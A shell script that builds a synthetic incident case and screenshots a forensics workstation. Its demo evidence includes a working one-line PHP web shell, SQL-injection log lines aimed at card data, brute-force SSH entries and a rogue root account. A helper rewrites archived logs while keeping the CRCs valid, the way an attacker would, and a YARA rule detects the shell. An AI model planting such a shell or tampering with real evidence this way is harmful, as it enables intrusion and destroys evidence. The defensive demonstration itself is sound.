#!/usr/bin/env bash
# Retake the screenshots in docs/screenshots/ from a generated demo case:
# a web server's files and logs captured twice (before and after a web
# shell, an account removal and an SSH login), a copy of the first archive
# with one log altered behind its seal (CRCs kept right, as a careful
# attacker would), and the workstation driven like a user under Xvfb at a
# laptop's 1024x700.
#
#   scripts/screenshots.sh [--keep] [OUT_DIR]   (default docs/screenshots)
#
# Needs Xvfb, xdotool and ImageMagick's `import` (GUI-TESTING notes in
# docs/workstation.md) and a debug build (`cargo build`). The clicks are
# positions on the 1024x700 layout: when a screen's layout changes, look at
# the shots and adjust the positions below. Nothing here is a test.
set -euo pipefail
cd "$(dirname "$0")/.."
keep=0
out=docs/screenshots
for a in "$@"; do
  case "$a" in
    --keep) keep=1 ;;
    -*) echo "usage: $0 [--keep] [OUT_DIR]" >&2; exit 2 ;;
    *) out=$a ;;
  esac
done
exe="${EXHIBIT_BIN:-$PWD/target/debug/exhibit}"
[ -x "$exe" ] || { echo "build first: cargo build ($exe missing)" >&2; exit 1; }
for t in Xvfb xdotool import python3 age-keygen; do
  command -v "$t" >/dev/null || { echo "needs $t" >&2; exit 1; }
done
mkdir -p "$out"
work=$(mktemp -d /tmp/exhibit-shots.XXXXXX)
[ "$keep" = 1 ] || trap 'kill $app $xvfb 2>/dev/null || true; rm -rf "$work"' EXIT

# --- The demo case -------------------------------------------------------
case_dir=$work/IR-2026-041
src=$work/web01
mkdir -p "$case_dir" "$src/etc" "$src/var/log/nginx" "$src/var/www/html/uploads" "$work/tampered"
cat >"$case_dir/case.json" <<'EOF'
{"case_id":"IR-2026-041","title":"Customer database leak claimed on a forum — web01 of the Lyon shop","organisation":"Acme Retail SAS","examiner":"A. Martin","timezone":"Europe/Paris","created_at":"2026-12-03T09:00:00Z"}
EOF
python3 - "$src" <<'EOF'
import sys, os
root = sys.argv[1]
def w(rel, text):
    with open(os.path.join(root, rel), "w") as f:
        f.write(text)
w("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbackup:x:34:34::/var/backups:/usr/sbin/nologin\n")
w("etc/hostname", "web01\n")
w("var/www/html/index.php", "<?php echo 'Welcome to the shop'; ?>\n")
auth = [f"Dec  3 08:{i // 60:02d}:{i % 60:02d} web01 sshd[{1000 + i}]: Failed password for invalid user admin{i % 7} from 203.0.113.{i % 5 + 10} port {40000 + i} ssh2" for i in range(400)]
auth.append("Dec  3 09:12:01 web01 sshd[2000]: Accepted password for deploy from 203.0.113.12 port 50000 ssh2")
auth.append("Dec  3 09:13:44 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
w("var/log/auth.log", "\n".join(auth) + "\n")
acc = [f'198.51.100.{i % 9} - - [03/Dec/2026:09:{i // 60:02d}:{i % 60:02d} +0000] "GET /index.php?id={i}%27%20UNION%20SELECT%20card,cvv%20FROM%20customers HTTP/1.1" 200 512 "-" "sqlmap/1.7"' for i in range(300)]
w("var/log/nginx/access.log", "\n".join(acc) + "\n")
EOF
# Each log last written when its last line says (the loader checks a log's
# times against its modification time to infer the zone).
touch -d '2026-12-03 09:13:44Z' "$src/var/log/auth.log"
touch -d '2026-12-03 09:04:59Z' "$src/var/log/nginx/access.log"
"$exe" capture --case IR-2026-041 --examiner "A. Martin" --evidence E01 \
  --purpose "First snapshot of web01 after the forum post" -o "$case_dir" "$src" >/dev/null
sleep 1
echo '<?php eval(base64_decode($_POST["c"])); ?>' >"$src/var/www/html/uploads/cache.php"
sed -i '/^backup:/d' "$src/etc/passwd"
echo "Dec  3 10:00:00 web01 sshd[3000]: Accepted publickey for root from 203.0.113.12 port 50001 ssh2" >>"$src/var/log/auth.log"
touch -d '2026-12-03 10:00:00Z' "$src/var/log/auth.log"
"$exe" capture --case IR-2026-041 --examiner "A. Martin" --evidence E02 \
  --purpose "Second snapshot, after containment" -o "$case_dir" "$src" >/dev/null
# tampered_copy ARCHIVE DIR SUFFIX CMD...: a copy of ARCHIVE and its custody
# log in DIR whose member ending in SUFFIX is rewritten through CMD (old
# bytes in, new bytes out) with Python's zipfile: every CRC right, the
# sealed manifest untouched, as a careful attacker would leave it. Prints
# the copy's path.
tampered_copy() {
  local archive=$1 dir=$2 suffix=$3
  shift 3
  mkdir -p "$dir"
  cp "$archive" "${archive%.zip}.custody.jsonl" "$dir/"
  python3 - "$dir/$(basename "$archive")" "$suffix" "$@" <<'EOF'
import subprocess, sys, zipfile
p, suffix, cmd = sys.argv[1], sys.argv[2], sys.argv[3:]
z = zipfile.ZipFile(p)
items = [(i.filename, z.read(i)) for i in z.infolist()]
z.close()
out = zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED)
for n, d in items:
    if n.endswith(suffix):
        d = subprocess.run(cmd, input=d, stdout=subprocess.PIPE).stdout
    out.writestr(n, d)
out.close()
EOF
  echo "$dir/$(basename "$archive")"
}
e01=$(ls "$case_dir"/IR-2026-041_E01_*.zip)
e02=$(ls "$case_dir"/IR-2026-041_E02_*.zip)
# E01 whose auth.log lost the successful login.
tampered=$(tampered_copy "$e01" "$work/tampered" /var/log/auth.log grep -v "Accepted password")
# E02 whose web shell was rewritten: the findings on it carry the ALTERED
# mark.
tampered2=$(tampered_copy "$e02" "$work/tampered2" /var/www/html/uploads/cache.php \
  echo '<?php eval(base64_decode($_POST["x"])); /* cache */ ?>')
# A YARA rule and an indicator list for the settings rows.
cat >"$work/webshells.yar" <<'EOF'
rule php_eval_of_posted_base64 {
  meta: description = "PHP evaluates base64 posted by the client" severity = "high"
  strings: $a = "eval(base64_decode($_POST" ascii
  condition: $a
}
EOF
printf '203.0.113.12 # the address that logged in after the brute force\n' >"$work/ioc.txt"

# An encrypted capture (age) for the Unlock window, and a bigger folder
# so a capture runs long enough to be seen running.
age-keygen -o "$work/identity.txt" 2>/dev/null
recipient=$(age-keygen -y "$work/identity.txt")
"$exe" capture --case IR-2026-041 --examiner "A. Martin" --evidence E03 \
  --purpose "Encrypted copy for the insurer" --encrypt-to "$recipient" -o "$work/locked" "$src" >/dev/null
locked=$(ls "$work"/locked/*.zip.age)
mkdir -p "$work/bulk"
for i in $(seq 1 60); do head -c 20000000 /dev/urandom >"$work/bulk/part-$i.bin"; done

# --- The window ------------------------------------------------------------
display=:${SHOTS_DISPLAY:-93}
# A 1440x900 screen; the window is held at 1024x700 for the laptop shots
# and grown to 1440x900 for the last ones.
Xvfb "$display" -screen 0 1440x900x24 -nolisten tcp >/dev/null 2>&1 &
xvfb=$!
sleep 1
export DISPLAY=$display
unset WAYLAND_DISPLAY
mkdir -p -m700 "$work/xdg" "$work/home"
HOME=$work/home XDG_RUNTIME_DIR=$work/xdg "$exe" >"$work/app.log" 2>&1 &
app=$!
sleep 6
# With no window manager, keys reach the window only once it has the focus.
wid=$(xdotool search --name Exhibit | head -1)
xdotool windowfocus "$wid" 2>/dev/null || true
xdotool windowsize "$wid" 1024 700; sleep 2
click() { xdotool mousemove "$1" "$2" click 1; sleep "${3:-1}"; }
# A slower click (move, wait, press, release) for widgets that a click
# arriving with the move does not reach: the rows of a table.
press() { xdotool mousemove "$1" "$2"; sleep 0.5; xdotool mousedown 1; sleep 0.2; xdotool mouseup 1; sleep "${3:-1}"; }
typed() { xdotool type --delay 40 "$1"; sleep 0.5; }
shot() { import -window "$wid" "$out/$1"; echo "  $out/$1"; }
# Tabs on the second row at 1024 px once a case is open.
tab() {
  case "$1" in
    Cases) click 36 52 ;; Investigation) click 126 52 ;; Capture) click 224 52 ;;
    Evidence) click 309 52 ;; Verify) click 385 52 ;; Custody) click 460 52 ;;
    Compare) click 545 52 ;; Findings) click 631 52 ;; Logs) click 702 52 ;;
    Timeline) click 772 52 ;;
  esac
  sleep 1
}

echo "screenshots:"
# Open the case by its folder.
click 798 226; typed "$case_dir"; click 765 257 5
tab Cases; shot 01-case.png
shot case-list-1024x700.png
tab Investigation; sleep 3; shot 11-investigation.png
tab Evidence; click 150 167 3; click 300 548 2; shot 04-browser.png
click 89 125 3; shot 06-custody.png
tab Compare; click 393 240 0.5; click 487 270 0.5; click 72 396 6; press 330 400 2; shot 07-compare.png
tab Findings; click 555 173 1; click 72 296 8; shot 08-findings.png
tab Logs; click 762 124; click 47 277 6; shot 09-logs.png
tab Timeline; click 794 124; click 60 215 6; shot 10-timeline.png
tab Capture; click 345 190; typed "$work/bulk"; click 578 190 2
xdotool key ctrl+Return; sleep 1; shot 02-capture-running.png
sleep 15; shot 03-capture-done.png
tab Verify; click 400 143; xdotool key ctrl+a; typed "$tampered"; click 70 283 8
shot 05-verify-failed.png
tab Evidence; click 375 94; xdotool key ctrl+a; typed "$locked"; click 723 94 3
shot unlock.png
xdotool key Escape; sleep 1
# Findings on the copy of E02 whose web shell was rewritten: the ALTERED
# badge and the red banner.
tab Findings; click 370 147; xdotool key ctrl+a; typed "$tampered2"; click 75 304 8
shot findings-altered-1024x700.png
# The settings rows: a YARA rule file and an indicator list.
click 557 177 1; click 215 239; typed "$work/webshells.yar"
click 197 270; typed "$work/ioc.txt"; click 75 304 8
shot findings-yara-ioc-1024x700.png
# The lists are one setting: Logs and Investigation already hold it.
tab Logs; click 47 277 6
shot ioc-logs-1024x700.png
# The analyst's bigger screen: the tabs move up beside the title.
xdotool windowsize "$wid" 1440 900; sleep 2
click 210 21 2; click 70 178 10
shot ioc-investigation-1440x900.png
# Phase 2 of the screenshots: a case of two servers (web01 twice, once
# whole and once with the logs profile; db01 once) for the Hosts screen and
# Compare across different scopes.
case2=$work/IR-2026-042
db=$work/db01
mkdir -p "$case2" "$db/etc" "$db/root/.ssh" "$db/var/log/mysql" "$src/root/.ssh"
cat >"$case2/case.json" <<'JSON'
{"case_id":"IR-2026-042","title":"Lyon shop — web01, db01 and app01","organisation":"Acme Retail SAS","examiner":"A. Martin","timezone":"Europe/Paris","created_at":"2026-12-03T11:00:00Z"}
JSON
echo db01 >"$db/etc/hostname"
cp "$src/etc/passwd" "$db/etc/passwd"
# db01 alone has a second root account and an unknown key: the outliers.
echo 'sysbak:x:0:0::/root:/bin/bash' >>"$db/etc/passwd"
app01=$work/app01
mkdir -p "$app01/etc" "$app01/root/.ssh"
echo app01 >"$app01/etc/hostname"
cp "$src/etc/passwd" "$app01/etc/passwd"
shared="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOpsAdminKeyOfTheShopxxxxxxxxxxxxxxxxxxxx ops@acme"
printf '%s\n' "$shared" >"$src/root/.ssh/authorized_keys"
printf '%s\n' "$shared" >"$app01/root/.ssh/authorized_keys"
printf '%s\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIUnknownKeyOnlyOnDb01yyyyyyyyyyyyyyyyyyyyy deploy@laptop\n' "$shared" >"$db/root/.ssh/authorized_keys"
printf '2026-12-03T09:20:11.000000Z 12 Connect\tdeploy@203.0.113.12 on shop\n' >"$db/var/log/mysql/mysql.log"
touch -d '2026-12-03 09:20:11Z' "$db/var/log/mysql/mysql.log"
"$exe" capture --case IR-2026-042 --examiner "A. Martin" --evidence E01 \
  --purpose "web01, the whole tree" -o "$case2" --root "$src" >/dev/null
"$exe" capture --case IR-2026-042 --examiner "A. Martin" --evidence E02 \
  --purpose "web01, logs only" -o "$case2" --root "$src" --profile logs >/dev/null
"$exe" capture --case IR-2026-042 --examiner "A. Martin" --evidence E03 \
  --purpose "db01, the whole tree" -o "$case2" --root "$db" >/dev/null
"$exe" capture --case IR-2026-042 --examiner "A. Martin" --evidence E04 \
  --purpose "app01, the whole tree" -o "$case2" --root "$app01" >/dev/null
kill "$app" 2>/dev/null || true; sleep 1
mkdir -p -m700 "$work/home2"
HOME=$work/home2 XDG_RUNTIME_DIR=$work/xdg "$exe" >"$work/app2.log" 2>&1 &
app=$!
sleep 6
wid=$(xdotool search --name Exhibit | head -1)
xdotool windowfocus "$wid" 2>/dev/null || true
xdotool windowsize "$wid" 1024 700; sleep 2
click 798 226; typed "$case2"; click 765 257 8
click 848 52 10
shot hosts.png
click 545 52 1; click 393 240 0.5; click 487 270 0.5; click 72 454 6
shot compare-scope-1024x700.png
echo "done (work files in $work)"
